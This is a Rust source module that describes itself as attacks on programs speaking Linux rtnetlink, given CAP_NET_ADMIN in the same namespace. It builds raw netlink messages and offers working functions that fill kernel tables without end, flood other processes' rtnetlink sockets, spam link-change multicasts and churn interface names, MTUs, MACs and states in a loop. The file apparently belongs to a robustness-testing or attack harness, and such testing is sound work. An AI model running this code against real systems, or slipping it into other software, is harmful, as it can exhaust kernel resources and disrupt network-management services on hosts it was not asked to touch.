//! Attacks with CAP_NET_ADMIN on programs that speak rtnetlink(7) in the same namespace: tables
//! without end, and messages to their sockets.

use std::collections::BTreeSet;
use std::net::{Ipv4Addr, Ipv6Addr};
use std::os::fd::OwnedFd;
use std::sync::{Mutex, PoisonError};

use nix::libc;
use rustix::io::{Errno, retry_on_intr};
use rustix::net::netlink::SocketAddrNetlink;
use rustix::net::sockopt::set_socket_recv_buffer_size;
use rustix::net::{
    AddressFamily, RecvFlags, SendFlags, SocketFlags, SocketType, bind, getsockname, recv, send,
    sendto, socket_with,
};

use super::super::Result;
use super::super::packets::Mac;
use super::{Span, rtnetlink_ports};

const HEADER: usize = size_of::<libc::nlmsghdr>();
const REQUEST: u16 = libc::NLM_F_REQUEST as u16;
/// A new entry, and an acknowledgement.
const CREATE: u16 = REQUEST | (libc::NLM_F_CREATE | libc::NLM_F_EXCL | libc::NLM_F_ACK) as u16;
/// Objects that routes share (linux/rtnetlink.h, linux/nexthop.h).
const RTM_NEWNEXTHOP: u16 = 104;
const NHA_ID: u16 = 1;
const NHA_BLACKHOLE: u16 = 4;
/// Names beside the first one of an interface (linux/rtnetlink.h, linux/if_link.h).
const RTM_NEWLINKPROP: u16 = 108;
const IFLA_PROP_LIST: u16 = 52;
const IFLA_ALT_IFNAME: u16 = 53;
/// The group of link changes, as a bit (linux/rtnetlink.h).
const LINK_GROUP: u32 = 1;

/// A message of rtnetlink that is being written.
#[derive(Clone, Debug)]
pub struct Message(Vec<u8>);

impl Message {
    /// A message of a kind, with what all of that kind begin with.
    fn new(kind: u16, flags: u16, body: &[u8]) -> Self {
        let mut bytes = vec![0; 4];
        bytes.extend(kind.to_ne_bytes());
        bytes.extend(flags.to_ne_bytes());
        bytes.resize(HEADER, 0);
        bytes.extend(body);
        Self(bytes)
    }

    /// Adds an attribute.
    fn with(mut self, kind: u16, value: &[u8]) -> Self {
        self.0.extend(attribute(kind, value));
        self
    }

    fn finish(mut self) -> Vec<u8> {
        let length = self.0.len() as u32;
        self.0[..4].copy_from_slice(&length.to_ne_bytes());
        self.0
    }
}

fn attribute(kind: u16, value: &[u8]) -> Vec<u8> {
    let mut bytes = ((4 + value.len()) as u16).to_ne_bytes().to_vec();
    bytes.extend(kind.to_ne_bytes());
    bytes.extend(value);
    bytes.resize(bytes.len().next_multiple_of(4), 0);
    bytes
}

/// `struct ifinfomsg`, for any type and no change of flags.
fn link_body(index: u32) -> [u8; 16] {
    let mut body = [0; 16];
    body[4..8].copy_from_slice(&index.to_ne_bytes());
    body
}

/// An alternative name of 120 bytes for an interface.
pub fn alternative_name(index: u32, number: u32) -> Message {
    let name = format!("{number:a>120}\0");
    let list = attribute(IFLA_ALT_IFNAME, name.as_bytes());
    Message::new(RTM_NEWLINKPROP, CREATE, &link_body(index)).with(IFLA_PROP_LIST | NESTED, &list)
}
const NESTED: u16 = libc::NLA_F_NESTED as u16;

/// An IPv4 address of 32 bits for an interface.
pub fn address(index: u32, address: Ipv4Addr) -> Message {
    let [a, b, c, d] = index.to_ne_bytes();
    let address = address.octets();
    Message::new(
        libc::RTM_NEWADDR,
        CREATE,
        &[libc::AF_INET as u8, 32, 0, 0, a, b, c, d],
    )
    .with(libc::IFA_LOCAL, &address)
    .with(libc::IFA_ADDRESS, &address)
}

/// An IPv6 address of 128 bits for an interface, in use at once.
pub fn address_v6(index: u32, address: Ipv6Addr) -> Message {
    let [a, b, c, d] = index.to_ne_bytes();
    let flags = libc::IFA_F_NODAD as u8;
    Message::new(
        libc::RTM_NEWADDR,
        CREATE,
        &[libc::AF_INET6 as u8, 128, flags, 0, a, b, c, d],
    )
    .with(libc::IFA_LOCAL, &address.octets())
}

/// A default route by `gateway`.
pub fn default_route(index: u32, gateway: Ipv4Addr, metric: u32) -> Message {
    let body = route_body(libc::RT_TABLE_MAIN, libc::RTPROT_STATIC, libc::RTN_UNICAST);
    Message::new(libc::RTM_NEWROUTE, CREATE, &body)
        .with(libc::RTA_GATEWAY, &gateway.octets())
        .with(libc::RTA_OIF, &index.to_ne_bytes())
        .with(libc::RTA_PRIORITY, &metric.to_ne_bytes())
}

/// A rule for the main table, as good as none.
pub fn rule(priority: u32) -> Message {
    // `struct fib_rule_hdr` is a `struct rtmsg` in all but names; FR_ACT_TO_TBL is 1
    // (linux/fib_rules.h).
    const FRA_PRIORITY: u16 = 6;
    let body = route_body(libc::RT_TABLE_MAIN, 0, 1);
    Message::new(libc::RTM_NEWRULE, CREATE, &body).with(FRA_PRIORITY, &priority.to_ne_bytes())
}

/// `struct rtmsg` of IPv4.
fn route_body(table: u8, protocol: u8, kind: u8) -> [u8; 12] {
    [
        libc::AF_INET as u8,
        0,
        0,
        0,
        table,
        protocol,
        0,
        kind,
        0,
        0,
        0,
        0,
    ]
}

/// A next hop that leads nowhere.
pub fn next_hop(id: u32) -> Message {
    // `struct nhmsg`.
    Message::new(
        RTM_NEWNEXTHOP,
        CREATE,
        &[libc::AF_INET as u8, 0, libc::RTPROT_STATIC, 0, 0, 0, 0, 0],
    )
    .with(NHA_ID, &id.to_ne_bytes())
    .with(NHA_BLACKHOLE, &[])
}

/// A neighbour that never ages.
pub fn neighbour(index: u32, address: Ipv4Addr, mac: Mac) -> Message {
    // `struct ndmsg`: the family, padding, the interface, and NUD_PERMANENT (linux/neighbour.h).
    const NUD_PERMANENT: u16 = 0x80;
    let mut body = [0; 12];
    body[0] = libc::AF_INET as u8;
    body[4..8].copy_from_slice(&index.to_ne_bytes());
    body[8..10].copy_from_slice(&NUD_PERMANENT.to_ne_bytes());
    Message::new(libc::RTM_NEWNEIGH, CREATE, &body)
        .with(libc::NDA_DST, &address.octets())
        .with(libc::NDA_LLADDR, &mac.0)
}

/// Another description of an interface, which the kernel announces to all listeners.
pub fn alias(index: u32, alias: &str) -> Message {
    Message::new(libc::RTM_NEWLINK, REQUEST, &link_body(index))
        .with(libc::IFLA_IFALIAS, alias.as_bytes())
}

/// Another MTU for an interface.
pub fn mtu(index: u32, mtu: u32) -> Message {
    Message::new(libc::RTM_NEWLINK, REQUEST, &link_body(index))
        .with(libc::IFLA_MTU, &mtu.to_ne_bytes())
}

/// Another MAC for an interface.
pub fn mac(index: u32, mac: Mac) -> Message {
    Message::new(libc::RTM_NEWLINK, REQUEST, &link_body(index)).with(libc::IFLA_ADDRESS, &mac.0)
}

/// Another name for an interface.
pub fn name(index: u32, name: &str) -> Message {
    let name = format!("{name}\0");
    Message::new(libc::RTM_NEWLINK, REQUEST, &link_body(index))
        .with(libc::IFLA_IFNAME, name.as_bytes())
}

/// Sets an interface up or down.
pub fn state(index: u32, up: bool) -> Message {
    let mut body = link_body(index);
    let flag = libc::IFF_UP as u32;
    body[8..12].copy_from_slice(&if up { flag } else { 0 }.to_ne_bytes());
    body[12..16].copy_from_slice(&flag.to_ne_bytes());
    Message::new(libc::RTM_NEWLINK, REQUEST, &body)
}

/// Has the kernel carry out many requests in the current namespace. Returns how many it did; an
/// error if it was none.
pub fn request_all(messages: impl IntoIterator<Item = Message>) -> Result<u64> {
    // As many as the acknowledgements of fit a receive buffer of the usual length.
    const AT_ONCE: usize = 64;
    let socket = open(SocketFlags::empty())?;
    let mut messages = messages.into_iter();
    let (mut done, mut refusal) = (0, None);
    loop {
        let batch: Vec<Vec<u8>> = messages
            .by_ref()
            .take(AT_ONCE)
            .map(Message::finish)
            .collect();
        if batch.is_empty() {
            break;
        }
        let padded = batch.iter().flat_map(|message| {
            message.iter().copied().chain(std::iter::repeat_n(
                0,
                message.len().next_multiple_of(4) - message.len(),
            ))
        });
        let padded: Vec<u8> = padded.collect();
        retry_on_intr(|| {
            sendto(
                &socket,
                &padded,
                SendFlags::empty(),
                &SocketAddrNetlink::new(0, 0),
            )
        })?;
        for _ in &batch {
            let mut answer = [0; 512];
            let (length, _) = retry_on_intr(|| recv(&socket, &mut answer[..], RecvFlags::empty()))?;
            let code = answer[..length]
                .get(HEADER..HEADER + 4)
                .ok_or("a cut acknowledgement")?;
            match i32::from_ne_bytes(code.try_into()?) {
                0 => done += 1,
                errno => refusal = Some(std::io::Error::from_raw_os_error(-errno)),
            }
        }
    }
    match refusal {
        Some(refusal) if done == 0 => {
            Err(format!("the kernel refuses all of it: {refusal}").into())
        }
        _ => Ok(done),
    }
}

/// Sends `bytes` to every rtnetlink socket of others in the namespace, as often as there is time
/// for, and counts the attempts. `own` has the ports of the attackers themselves. Between two looks
/// for sockets, most of which live for some hundred microseconds, each gets `rounds` messages.
pub fn flood_ports(
    span: &Span,
    bytes: &[u8],
    rounds: usize,
    own: &Mutex<BTreeSet<u32>>,
) -> Result<u64> {
    let socket = open(SocketFlags::NONBLOCK)?;
    bind(&socket, &SocketAddrNetlink::new(0, 0))?;
    let port = SocketAddrNetlink::try_from(getsockname(&socket)?)?.pid();
    let own = || own.lock().unwrap_or_else(PoisonError::into_inner);
    own().insert(port);
    let mut tried = 0;
    span.repeat(|_| {
        let mut ports = rtnetlink_ports()?;
        ports.retain(|port| !own().contains(port));
        for port in ports.iter().cycle().take(rounds * ports.len()) {
            // Most fail: the queue is full, or the socket is closed or takes nothing from here.
            let _ = sendto(
                &socket,
                bytes,
                SendFlags::empty(),
                &SocketAddrNetlink::new(*port, 0),
            );
            tried += 1;
        }
        Ok(())
    })?;
    Ok(tried)
}

/// Announces a change of a link, which was none, to all listeners in the namespace, as often as
/// there is time for.
pub fn multicast(span: &Span, index: u32) -> Result<u64> {
    let socket = open(SocketFlags::NONBLOCK)?;
    // Without NLM_F_REQUEST the kernel does nothing with its own copy.
    let message = Message::new(libc::RTM_NEWLINK, 0, &link_body(index)).finish();
    let group = SocketAddrNetlink::new(0, LINK_GROUP);
    span.repeat(
        |_| match sendto(&socket, &message, SendFlags::empty(), &group) {
            // The queue of a listener is full, or there is no listener.
            Ok(_) | Err(Errno::NOBUFS | Errno::AGAIN | Errno::SRCH | Errno::CONNREFUSED) => Ok(()),
            Err(error) => Err(error.into()),
        },
    )
}

/// Makes all `changes` of interfaces, one after the other and again.
pub fn change_links(span: &Span, changes: &[Message]) -> Result<u64> {
    let socket = open(SocketFlags::empty())?;
    // Nothing is answered but refusals, which are not read: the kernel drops what there is no room
    // for.
    set_socket_recv_buffer_size(&socket, 0)?;
    rustix::net::connect(&socket, &SocketAddrNetlink::new(0, 0))?;
    let changes: Vec<_> = changes.iter().cloned().map(Message::finish).collect();
    span.repeat(|_| {
        for change in &changes {
            retry_on_intr(|| send(&socket, change, SendFlags::empty()))?;
        }
        Ok(())
    })
}

fn open(flags: SocketFlags) -> Result<OwnedFd> {
    Ok(socket_with(
        AddressFamily::NETLINK,
        SocketType::RAW,
        SocketFlags::CLOEXEC | flags,
        None,
    )?)
}
